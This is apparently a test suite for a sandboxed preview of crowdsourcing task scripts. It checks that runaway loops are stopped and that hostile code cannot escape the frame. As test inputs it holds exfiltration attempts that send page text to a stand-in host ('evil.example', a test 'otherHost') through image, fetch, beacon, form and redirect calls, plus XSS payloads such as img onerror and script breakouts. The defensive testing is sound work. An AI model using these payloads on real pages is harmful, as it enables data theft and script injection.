import assert from 'node:assert/strict';
import { eventually } from '../session';
import { Stand } from './stand';

describe('a hostile classic script', () => {
  let stand: Stand;
  before(async () => {
    stand = await Stand.start();
  });
  after(() => stand.close());

  const taskWith = (members: string): string => `
    exports.Task = function (options) { TolokaHandlebarsTask.call(this, options); };
    exports.Task.prototype = Object.create(TolokaHandlebarsTask.prototype);
    Object.assign(exports.Task.prototype, {${members}});`;

  /** What it is, the script, and the zero-based line on which it is stopped. */
  const endless: readonly (readonly [string, string, number])[] = [
    ['while (true) at its top', 'var a;\nwhile (true) {}', 1],
    ['for (;;) in onRender', taskWith('onRender() { for (;;) ; }'), 3],
    ['do-while in getTemplateData', taskWith('getTemplateData() {\n do { } while (true) }'), 4],
    ['a loop that swallows errors', 'for (;;) { try { for (;;) ; } catch (e) { } }', 0],
    ['promises without end', 'const again = () => Promise.resolve().then(again);\nagain();', 0],
    ['an async loop', '(async () => { for (;;) await null; })();', 0],
    ['a growing page', 'for (;;) document.body.append(document.createElement("div"));', 0],
    ['a loop in a timer', 'setTimeout(function () {\n while (true) ; })', 1],
    [
      'a storm of messages',
      'const { port1, port2 } = new MessageChannel();\nport1.onmessage = () => {\n for (let i = 0; i < 1e5; i++) ; port2.postMessage(0); };\nport2.postMessage(0);',
      2,
    ],
  ];
  for (const [name, script, line] of endless) {
    it(`is stopped and reported: ${name}`, async () => {
      const page = await stand.open({ script, markup: '<b>drawn</b>' });
      await page.frame.locator('.preview-broken').first().getByText('was stopped').waitFor();
      const [problem] = await page.problems();
      assert.match(problem?.message ?? '', /was stopped$/);
      assert.deepEqual(problem?.place, { part: 'script', from: line, to: line });
      await page.show({ markup: '<b>mended</b>' });
      await page.frame.getByText('mended').waitFor();
      await page.close();
    });
  }

  it('is stopped in validate and in event handlers, and the rest stays alive', async () => {
    const script = taskWith(`
      onRender() { this.getDOMElement().querySelector('b').onclick = () => { for (;;) ; }; },
      validate() { for (;;) ; }`);
    const markup = '<b>press</b>{{field type="input" name="a"}}';
    const page = await stand.open({ script, markup, output: { a: { type: 'string' } } });
    await page.frame.getByText('press').click();
    await page.frame.locator('.preview-broken').waitFor();
    const [report] = await page.submit();
    assert.equal(report?.valid, false);
    await page.frame.getByRole('textbox').fill('still here');
    await page.frame.locator('.preview-source').nth(1).click();
    const reveal = (await page.messages()).find(({ type }) => type === 'reveal');
    assert.deepEqual(reveal, { type: 'reveal', place: { part: 'script', from: 4, to: 4 } });
    await page.close();
  });

  it('ends endless recursion as the browser does', async () => {
    const page = await stand.open({
      script: 'function f() { f(); f(); }\nf();',
      markup: '<b>drawn</b>',
    });
    await page.frame.getByText('Maximum call stack').waitFor();
    await page.frame.getByText('drawn').waitFor();
    await page.close();
  });

  it('does not flood the page with changes or complaints', async () => {
    const script = taskWith(`
      onRender() {
        for (let i = 0; i < 5000; i += 1) this.setSolutionOutputValue('a', String(i));
        for (let i = 0; i < 300; i += 1) setTimeout(() => { throw new Error(i + 'x'.repeat(1e5)); });
      }`);
    const page = await stand.open({ script, markup: '<b>drawn</b>' });
    await eventually(async () => assert.deepEqual(await page.outputs(), [{ a: '4999' }]));
    await eventually(async () => assert.equal((await page.problems()).length, 20));
    const messages = await page.messages();
    assert.ok(messages.length < 60, String(messages.length));
    assert.ok(JSON.stringify(messages).length < 100_000);
    await page.close();
  });

  it('runs no more of a script that was stopped again and again', async () => {
    const script = 'window.turns = 0; setInterval(() => { window.turns += 1; while (true) ; }, 0);';
    const page = await stand.open({ script, markup: '<b>drawn</b>' });
    await eventually(async () => assert.equal(await page.inFrame('window.turns'), 3));
    await new Promise((resolve) => setTimeout(resolve, 200));
    assert.equal(await page.inFrame('window.turns'), 3);
    await page.close();
  });

  it('does not stop honest work', async () => {
    const script = `
      let sum = 0;
      for (let i = 0; i < 2e6; i += 1) sum += i % 7;
      const list = Array.from({ length: 20000 }, (_, i) => i).sort((a, b) => b - a);
      window.done = [sum > 0, list[0]];`;
    const page = await stand.open({ script, markup: '<b>drawn</b>' });
    assert.deepEqual(await page.inFrame('window.done'), [true, 19999]);
    assert.deepEqual(await page.problems(), []);
    await page.close();
  });

  it('reaches neither page, storage nor network, and opens nothing by itself', async () => {
    const secret = stand.otherHost;
    const script = `
      const tries = {
        parent: () => parent.document.title,
        top: () => { top.location = '${secret}/top'; },
        frameElement: () => window.frameElement.ownerDocument.title,
        eval: () => eval('1'),
        Function: () => new Function('return 1')(),
        timer: () => { setTimeout('window.ran = 1'); return 'silent'; },
        socket: () => new Promise((done) => { new WebSocket('${secret.replace('http', 'ws')}').onerror = () => done('refused'); }),
        worker: () => new Promise((done) => { new Worker(URL.createObjectURL(new Blob(['1']))).onerror = () => done('refused'); }),
        open: () => window.open('${secret}/open') === null ? 'refused' : 'opened',
        prompt: () => window.prompt('name') === null ? 'refused' : 'asked',
        beacon: () => navigator.sendBeacon('${secret}/beacon', 'x') && 'silent',
        fetch: () => fetch('${secret}/fetch', { mode: 'no-cors' }),
        xhr: () => new Promise((done) => { const x = new XMLHttpRequest(); x.onerror = () => done('refused'); x.open('GET', '${secret}/xhr'); x.send(); }),
        image: () => new Promise((done) => { const i = new Image(); i.onerror = () => done('refused'); i.src = '${secret}/image?' + document.body.textContent; }),
        style: () => { document.body.style.backgroundImage = 'url(${secret}/style)'; return 'silent'; },
        font: () => new FontFace('x', 'url(${secret}/font)').load(),
        script: () => new Promise((done) => { const s = document.createElement('script'); s.onerror = () => done('refused'); s.src = '${secret}/script'; document.body.append(s); }),
        inline: () => { const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.body.append(s); return 'silent'; },
        nonce: () => [...document.scripts].some((one) => one.nonce) ? 'known' : 'refused',
        frame: () => { const f = document.createElement('iframe'); f.src = '${secret}/frame'; document.body.append(f); return 'silent'; },
        form: () => { const f = document.createElement('form'); f.action = '${secret}/form'; document.body.append(f); f.submit(); return 'silent'; },
        link: () => { const l = document.createElement('link'); l.rel = 'prefetch'; l.href = '${secret}/prefetch'; document.head.append(l); return 'silent'; },
        meta: () => { const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '60;url=${secret}/meta'; document.head.append(m); return 'silent'; },
        peer: () => new RTCPeerConnection({ iceServers: [{ urls: 'stun:evil.example' }] }).createOffer({ offerToReceiveAudio: true }).then(() => 'silent'),
        storage: () => { localStorage.setItem('a', '1'); return document.cookie === '' && 'silent'; },
        forge: () => { parent.postMessage({ type: 'render', version: 1e15, model: {} }, '*'); parent.postMessage('crowdsmith:frame-ready', '*'); return 'silent'; },
      };
      window.results = {};
      for (const [name, attempt] of Object.entries(tries)) {
        Promise.resolve().then(attempt).then((value) => value, () => 'refused').then((value) => { window.results[name] = value; });
      }`;
    const page = await stand.open({ script, markup: '<b>drawn</b>' });
    await eventually(async () => {
      const results = (await page.inFrame('window.results')) as Readonly<Record<string, unknown>>;
      assert.ok(Object.keys(results).length >= 24, JSON.stringify(results));
      const leaks = Object.entries(results).filter(
        ([, v]) => v !== 'refused' && v !== 'silent' && v !== false,
      );
      assert.deepEqual(leaks, []);
    });
    assert.equal(await page.inFrame('window.ran'), undefined);
    await page.frame.getByText('drawn').waitFor();
    assert.deepEqual(page.asked, []);
    assert.ok(page.page.url().startsWith(stand.origin));
    await page.close();
  });

  it('goes nowhere by itself: the frame stays what it is', async () => {
    const script =
      "setTimeout(() => { location.href = 'https://evil.example/?' + document.body.textContent; });";
    const page = await stand.open({ script, markup: '<b>drawn</b>' });
    await new Promise((resolve) => setTimeout(resolve, 300));
    assert.deepEqual(page.asked, []);
    await page.close();
  });

  it('cannot catch the way to the page by changing what it is made of', async () => {
    const script = `
      window.caught = 0;
      MessagePort.prototype.postMessage = function () { window.caught += 1; };
      window.addEventListener('message', () => { window.caught += 1; });`;
    const markup = '{{field type="input" name="a"}}';
    const page = await stand.open({ script, markup, output: { a: { type: 'string' } } });
    await page.frame.getByRole('textbox').fill('x');
    await eventually(async () => assert.deepEqual(await page.outputs(), [{ a: 'x' }]));
    assert.equal(await page.inFrame('window.caught'), 0);
    await page.close();
  });

  it('reaches the hosts that the user allows, and no others', async () => {
    const { host, otherHost } = stand;
    const script = `
      window.library = typeof $.fn.loadedBefore;
      fetch('${host}/data').then((r) => { window.api = r.status; });
      fetch('${otherHost}/data').catch(() => { window.other = 'refused'; });`;
    const page = await stand.open(
      {
        script,
        markup: `{{iframe src="${host}/page"}}{{iframe src="${otherHost}/page"}}<img src="${host}/picture">`,
        scriptUrls: [
          '$TOLOKA_ASSETS/js/toloka-handlebars-templates.js',
          `${host}/lib.js`,
          `${otherHost}/lib.js`,
        ],
        styleUrls: [`${host}/own.css`],
      },
      [{}],
      { allowedHosts: [host] },
    );
    await eventually(async () => {
      assert.deepEqual(await page.inFrame('[window.api, window.other]'), [200, 'refused']);
      const paths = page.asked.filter((path) => !path.includes('favicon')).sort();
      assert.deepEqual(
        paths,
        ['data', 'lib.js', 'own.css', 'page', 'picture'].map((path) => `127.0.0.1/${path}`),
      );
    });
    assert.equal(await page.frame.locator('.preview-stand-in').count(), 1);
    const [problem] = await page.problems();
    assert.match(problem?.message ?? '', /host is not allowed in the preview: http:.*lib\.js/);
    await page.close();
  });

  it('may name anything: markup, styles and values run nothing', async () => {
    const evil =
      '<img src=x onerror="window.hit=1"><script>window.hit=1</script><a href="javascript:window.hit=1">go</a>';
    const page = await stand.open(
      {
        markup: `{{text}}{{{text}}}{{field type="radio" name="a" label=text value=text}}{{field type="input" name=text placeholder=text}}`,
        styles: "</style><script>window.hit=1</script>body{background:url('${stand.otherHost}/x')}",
        script: "var s = '</script><script>window.hit=1</script>';",
        output: { a: { type: 'string' } },
      },
      [{ input: { text: evil } }],
    );
    await page.frame.getByText('go', { exact: true }).first().click();
    assert.equal(await page.inFrame('window.hit'), undefined);
    assert.deepEqual(page.asked, []);
    assert.deepEqual(
      (await page.messages()).filter(({ type }) => type === 'openLink'),
      [],
    );
    await page.close();
  });

  it('shows its alerts as notes', async () => {
    const page = await stand.open({ script: "alert('Look: ' + 1)", markup: '<b>drawn</b>' });
    await page.frame.locator('.preview-note', { hasText: 'Look: 1' }).waitFor();
    await page.frame.getByRole('button', { name: 'Close' }).click();
    assert.equal(await page.frame.locator('.preview-note').count(), 0);
    await page.close();
  });
});
